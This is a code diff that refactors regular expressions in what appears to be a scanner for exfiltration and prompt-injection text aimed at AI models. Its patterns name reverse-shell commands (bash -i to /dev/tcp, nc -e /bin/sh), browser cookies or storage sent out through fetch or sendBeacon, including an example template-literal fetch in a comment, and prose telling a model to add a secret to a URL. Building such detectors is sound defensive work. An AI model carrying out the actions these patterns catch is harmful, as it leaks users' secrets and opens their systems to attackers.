@@ -518,10 +518,9 @@ _EXFIL_PROSE: tuple[tuple[str, str], ...] = (
         r"https?://(?=\S*?[?&=/])\S++" + _GAP + _HELD_SECRET + r"[^.!?;,\n]{0,20}?"
         r"\b(?:appended|added|attached|tacked\s+on|inserted|filled\s+in)\b"
         r"|\b(?:put|place|insert|append|add|attach|paste)\s+" + _HELD_SECRET
-        + r"[^.!?\n]{0,40}?(?:(?:right|just|directly)\s+)?(?:after|behind)\s+['\"`]?[\w-]+="
-        r"|\b(?:put|place|insert|append|add|attach|paste)\s+" + _HELD_SECRET
-        + r"[^.!?\n]{0,40}?\b(?:(?:to|at)\s+the\s+end\s+of|into)\s+(?:the\s+|this\s+)?"
-        r"(?:url|link|query(?:\s+string)?)\b",
+        + r"[^.!?\n]{0,40}?(?:(?:(?:right|just|directly)\s+)?(?:after|behind)\s+['\"`]?[\w-]+="
+        r"|\b(?:(?:to|at)\s+the\s+end\s+of|into)\s+(?:the\s+|this\s+)?(?:url|link"
+        r"|query(?:\s+string)?)\b)",
     ),
     (
         "secrets posted in public",
@@ -625,16 +624,16 @@ _REVERSE_SHELL_RE = LazyRegex(
     r"\b(?:bash|sh|zsh)\s+-i\b[^\n]{0,40}?/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/\S+\s+0>&1"
     r"|\b(?:nc|ncat|netcat)\b[^|;&\n]{0,40}?\s-e\s+/bin/(?:ba)?sh\b"
 )
-# Browser storage appended to an absolute URL that a request or an image load will fetch.
+# Browser storage appended to an absolute URL that a request or an image load will fetch, as is
+# or through an encoder, after a `+` or inside a template literal
+# (fetch(`https://h/c?v=${document.cookie}`)).
+_LOADS = r"(?:fetch|sendbeacon|axios\.\w+|\.src\s*=|open)\s*\(?\s*"
+_STORAGE = (r"(?:(?:encodeuricomponent|encodeuri|escape|btoa|json\.stringify)\s*\(\s*)?"
+            r"(?:window\.)?(?:localstorage|sessionstorage|document\.cookie)")
 _STORAGE_BEACON_RE = LazyRegex(
-    r"(?:fetch|sendbeacon|axios\.\w+|\.src\s*=|open)\s*\(?\s*['\"`](?:https?:)?//[^'\"`]+['\"`]"
-    r"\s*\+\s*(?:(?:encodeuricomponent|encodeuri|escape|btoa|json\.stringify)\s*\(\s*)?"
-    r"(?:window\.)?(?:localstorage|sessionstorage|document\.cookie)"
-    # (or inside a template literal: fetch(`https://h/c?v=${document.cookie}`))
-    r"|(?:fetch|sendbeacon|axios\.\w+|\.src\s*=|open)\s*\(?\s*`(?:https?:)?//[^`]*\$\{\s*"
-    r"(?:(?:encodeuricomponent|encodeuri|escape|btoa|json\.stringify)\s*\(\s*)?(?:window\.)?"
-    r"(?:localstorage|sessionstorage|document\.cookie)"
-    r"|sendbeacon\s*\([^)]{0,200}?(?:localstorage|sessionstorage|document\.cookie)"
+    _LOADS + r"['\"`](?:https?:)?//[^'\"`]+['\"`]\s*\+\s*" + _STORAGE
+    + r"|" + _LOADS + r"`(?:https?:)?//[^`]*\$\{\s*" + _STORAGE
+    + r"|sendbeacon\s*\([^)]{0,200}?(?:localstorage|sessionstorage|document\.cookie)"
 )
 # Auto-loading images leak whatever the model substitutes into the query string.
 _BEACON_RE = LazyRegex(
@@ -1366,8 +1365,7 @@ _QUOTED_SPAN_RE = LazyRegex(_SPEECH + r'|`[^`]{4,}`|\'[^\']{12,}\''
                             r'|\u300c[^\u300d]{2,}\u300d|\u300e[^\u300f]{2,}\u300f')
 _DEFENCE_RE = LazyRegex(
     r"\b(?:(?:never|do\s+not|don'?t|must\s+not|does\s+not|doesn'?t)\s+(?:to\s+)?(?:follow|obey"
-    r"|act\s+on"
-    r"|execute|comply|run)|not\s+to\s+(?:follow|obey|act\s+on|comply)"
+    r"|act\s+on|execute|comply|run)|not\s+to\s+(?:follow|obey|act\s+on|comply)"
     r"|refus(?:e|es|ed|al)|reject(?:s|ed)?|block(?:s|ed)?|flag(?:s|ged)?|detect(?:s|ed|ion|or)?"
     r"|(?:prompt[\s-])?injections?|jailbreaks?|red[\s-]team|malicious|untrusted|attacks?"
     r"|attackers?|as\s+data|guard(?:rail)?s?|classifier|saniti[sz]\w*|defen[cs]es?"
